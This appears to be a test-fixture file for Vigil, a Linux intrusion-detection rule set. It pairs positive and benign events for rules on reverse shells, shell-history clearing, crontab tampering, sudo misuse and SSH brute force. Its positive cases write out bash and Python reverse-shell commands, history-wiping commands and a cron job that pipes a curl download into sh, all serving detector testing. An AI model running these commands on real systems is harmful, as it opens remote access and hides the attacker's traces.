/** Positive and look-alike events for Vigil's Linux rules. */
import type { Event } from '../../../core/index.js';
import { linuxProcess, type RuleCase, second, syslogEvent } from '../rule-case.js';

/** An sshd line with the source address ingest extracts from the message as an observable. */
function sshLine(message: string, address: string, time: string): Event {
  const event = syslogEvent('sshd', `${message} from ${address} port 40000 ssh2`, time);
  return { ...event, observables: [{ type: 'ipv4-addr', value: address, field: 'source.ip' }] };
}

export const linuxCases: RuleCase[] = [
  {
    title: 'Reverse Shell Started From A Command Line',
    positive: () => [
      linuxProcess('/usr/bin/bash', 'bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'),
      linuxProcess(
        '/usr/bin/python3',
        `python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect(("198.51.100.7",4444));subprocess.call(["/bin/sh","-i"])'`,
      ),
    ],
    negative: () => [
      linuxProcess('/usr/bin/nc', 'nc -zv 10.0.0.5 22'),
      linuxProcess('/usr/bin/python3', 'python3 -c "import socket; print(socket.gethostname())"'),
    ],
  },
  {
    title: 'Reverse Shell Pattern In A Log Line',
    positive: () => [
      syslogEvent(
        'sudo',
        'eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/bash -c bash -i >& /dev/tcp/198.51.100.7/4444 0>&1',
      ),
    ],
    negative: () => [
      syslogEvent('sudo', 'eve : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx'),
    ],
  },
  {
    title: 'Shell History Cleared Or Disabled',
    positive: () => [
      linuxProcess('/usr/bin/bash', 'bash -c unset HISTFILE; history -c'),
      linuxProcess('/usr/bin/rm', 'rm -f /root/.bash_history'),
    ],
    negative: () => [
      linuxProcess('/usr/bin/grep', 'grep ssh /root/.bash_history'),
      linuxProcess('/usr/bin/bash', 'bash -c history | tail'),
    ],
  },
  {
    title: 'Shell History Cleared Or Disabled (Log Line)',
    positive: () => [syslogEvent('audit', 'type=EXECVE argc=3 a0="bash" a1="-c" a2="unset HISTFILE"')],
    negative: () => [syslogEvent('audit', 'type=EXECVE argc=2 a0="history" a1="10"')],
  },
  {
    title: 'User Crontab Replaced Or Edited',
    positive: () => [
      syslogEvent('crontab', '(www-data) REPLACE (www-data)'),
      syslogEvent('cron', '(root) BEGIN EDIT (root)'),
    ],
    negative: () => [syslogEvent('cron', '(root) CMD (run-parts /etc/cron.hourly)')],
  },
  {
    title: 'Cron Job Written From The Command Line With A Network Or Shell Payload',
    positive: () => [
      linuxProcess(
        '/usr/bin/bash',
        'bash -c (crontab -l; echo "*/5 * * * * curl -s http://198.51.100.7/u.sh | sh") | crontab -',
      ),
    ],
    negative: () => [linuxProcess('/usr/bin/crontab', 'crontab -l')],
  },
  {
    title: 'Sudo Refused Or Password Guessed',
    positive: () => [
      syslogEvent('sudo', 'www-data : user NOT in sudoers ; TTY=pts/1 ; PWD=/var/www ; USER=root ; COMMAND=/bin/bash'),
    ],
    negative: () => [syslogEvent('sudo', 'pam_unix(sudo:session): session opened for user root by bob(uid=0)')],
  },
  {
    title: 'Sudo Used To Start A Shell Or Change Accounts',
    positive: () => [syslogEvent('sudo', 'bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/bin/bash')],
    negative: () => [syslogEvent('sudo', 'bob : TTY=pts/0 ; PWD=/home/bob ; USER=root ; COMMAND=/usr/bin/apt update')],
  },
  {
    title: 'SSH Login Succeeded After A Failed Attempt From The Same Source',
    positive: () => [
      ...Array.from({ length: 6 }, (_, index) => sshLine('Failed password for root', '203.0.113.7', second(index))),
      sshLine('Accepted password for root', '203.0.113.7', second(30)),
    ],
    negative: () => [
      sshLine('Accepted password for root', '203.0.113.7', second(0)),
      ...Array.from({ length: 6 }, (_, index) =>
        sshLine('Failed password for root', '203.0.113.7', second(10 + index)),
      ),
      // Internet noise from one address, then the owner logging in from another.
      ...Array.from({ length: 6 }, (_, index) =>
        sshLine('Failed password for root', '198.51.100.9', second(20 + index)),
      ),
      sshLine('Accepted password for alice', '10.0.0.5', second(40)),
    ],
  },
];
